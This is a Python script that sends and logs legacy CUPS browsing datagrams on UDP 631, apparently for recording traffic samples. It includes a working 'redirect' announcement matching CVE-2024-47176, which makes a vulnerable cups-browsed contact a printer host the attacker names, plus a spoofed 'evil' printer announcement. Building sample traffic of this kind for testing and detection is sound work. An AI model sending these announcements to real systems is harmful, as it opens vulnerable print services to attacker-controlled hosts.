#!/usr/bin/env python3
"""CUPS browsing datagrams (UDP 631, the legacy protocol cups-browsed listens to), used only to
record samples.

  cups_browse.py send DEST [--from-host H] LINE-SPEC ...
      sends one datagram per announcement to DEST:631 (unicast only: DEST must be an address,
      no name lookups, no broadcast).  Each announcement is one line
      ``TYPE STATE URI "LOCATION" "INFO" "MAKE-MODEL"\\n`` with TYPE and STATE in hex, as
      cupsd (CUPS 1.x) and cups-browsed send and read them.
  cups_browse.py listen ADDR [--count N] [--timeout S]
      receives and logs up to N datagrams on ADDR:631 (so the victim's kernel answers with no
      ICMP port-unreachable), then exits; it never answers.

The announcements ``send`` knows (``--set``):
  own       printer type 0x0 state 3 (idle): ipp://SENDER:631/printers/office
            (the URI's host is the sender: an ordinary announcement)
  evil      the same shape from a workstation: ipp://SENDER:631/printers/evil, with a make and
            model like a real printer's
  redirect  the CVE-2024-47176 shape: a URI whose host is not the sender
            (ipp://10.80.0.99:631/printers/x), which makes a vulnerable cups-browsed fetch the
            attributes of a printer the attacker names

Python 3 standard library only.
"""

import argparse
import ipaddress
import socket
import sys
import time


def lines_for(sets, sender, redirect_host):
    out = []
    for s in sets:
        if s == "own":
            out.append(f'0 3 ipp://{sender}:631/printers/office "Floor 2, room 214" '
                       f'"Office printer" "Canon MG5500 series"\n')
        elif s == "evil":
            out.append(f'4 3 ipp://{sender}:631/printers/evil "Floor 2" '
                       f'"HP LaserJet (evil)" "HP LaserJet 4250"\n')
        elif s == "redirect":
            out.append(f'0 3 ipp://{redirect_host}:631/printers/x "Floor 3" '
                       f'"Finance printer" "HP LaserJet 4250"\n')
    return out


def cmd_send(args):
    dest = ipaddress.ip_address(args.dest)
    if dest.is_multicast or str(dest).endswith(".255") or dest.is_unspecified:
        sys.exit("cups_browse: unicast destinations only")
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if args.bind:
        sock.bind((args.bind, 0))
    sender = args.from_host or args.bind or sock.getsockname()[0]
    for line in lines_for(args.set, sender, args.redirect_host):
        sock.sendto(line.encode(), (str(dest), args.port))
        print(f"sent {line.rstrip()!r}", file=sys.stderr, flush=True)
        time.sleep(args.gap)
    sock.close()


def cmd_listen(args):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((args.addr, args.port))
    print("READY", flush=True)
    deadline = time.monotonic() + args.timeout
    got = 0
    while got < args.count:
        left = deadline - time.monotonic()
        if left <= 0:
            break
        sock.settimeout(left)
        try:
            data, peer = sock.recvfrom(2048)
        except socket.timeout:
            break
        got += 1
        print(f"from {peer[0]}:{peer[1]}: {data!r}", file=sys.stderr, flush=True)
    sock.close()


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("send")
    s.add_argument("dest")
    s.add_argument("--port", type=int, default=631)
    s.add_argument("--bind", help="source address")
    s.add_argument("--from-host", help="host put in the sender's own URIs (default: --bind)")
    s.add_argument("--redirect-host", default="10.80.0.99")
    s.add_argument("--set", nargs="+", choices=["own", "evil", "redirect"], default=["own"])
    s.add_argument("--gap", type=float, default=0.2)
    l = sub.add_parser("listen")
    l.add_argument("addr")
    l.add_argument("--port", type=int, default=631)
    l.add_argument("--count", type=int, default=8)
    l.add_argument("--timeout", type=float, default=30.0)
    args = ap.parse_args()
    if args.cmd == "send":
        cmd_send(args)
    else:
        cmd_listen(args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
